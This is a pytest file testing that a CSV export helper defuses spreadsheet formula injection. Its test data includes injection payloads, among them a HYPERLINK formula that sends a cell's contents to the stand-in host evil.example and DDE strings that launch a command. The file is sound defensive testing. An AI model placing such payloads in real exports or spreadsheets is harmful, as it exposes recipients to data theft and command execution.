"""CSV that no spreadsheet takes for formulas."""

import csv
from io import StringIO

import pytest

from provisioning.web.csv_text import csv_text

OWASP = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)"]
"""https://owasp.org/www-community/attacks/CSV_Injection: what a cell must not begin with."""
HIDDEN = [" =1+1", "\u00a0=1+1", "\u3000@SUM(1)", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", " \t -1"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("text", OWASP + HIDDEN + PAYLOADS)
def test_attack_026_what_could_start_a_formula_begins_with_an_apostrophe(text: str) -> None:
    ((before, cell, after),) = cells(csv_text([["a", text, "b"]]))

    assert cell.startswith("'")
    assert (before, after) == ("a", "b")


@pytest.mark.parametrize("text", ["Ada; =1+1", 'x";=1+1', "x\n@SUM(1)", "x\t+1"])
def test_attack_026_no_formula_starts_after_what_may_end_a_cell_elsewhere(text: str) -> None:
    ((cell,),) = cells(csv_text([[text]]))

    assert cell == text[: text.index(next(filter(cell.__contains__, ";\n\t"))) + 1] + "'" + cell.partition("'")[2]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text", ['a;"=HYPERLINK("http://evil.example")', '\t"=1+1', 'a\t"=1+1', 'a;""=1', 'a; " =1', '"=1']
)
def test_attack_026_no_reader_with_another_delimiter_finds_a_formula(text: str, delimiter: str) -> None:
    written = csv_text([["a", text, "b"]])

    rows = list(csv.reader(StringIO(written, newline=""), delimiter=delimiter))

    assert [cell for row in rows for cell in row if cell.lstrip(' \t"').startswith("=")] == []


@pytest.mark.parametrize("text", ["", "ada@example.com", "Anne-Marie", "2026-11-23T12:00:00Z", '{"a": "=1"}', "x = 1"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert cells(csv_text([[text]])) == [[text]]


def test_attack_026_quotation_marks_commas_and_lines_stay_in_their_cells() -> None:
    row = ['say "hi"', "a,b", "one\r\ntwo"]

    assert csv_text([row]) == '"say ""hi""","a,b","one\r\ntwo"\r\n'
    assert cells(csv_text([row])) == [row]
